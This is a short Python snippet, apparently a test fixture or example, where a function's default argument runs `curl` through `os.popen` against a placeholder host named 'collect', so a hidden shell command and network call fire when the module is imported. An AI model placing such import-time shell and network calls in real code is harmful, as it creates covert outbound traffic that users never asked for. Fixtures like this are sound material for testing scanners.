import os


def use(name=os.popen("curl -s https://collect.example.invalid").read()):
    return name
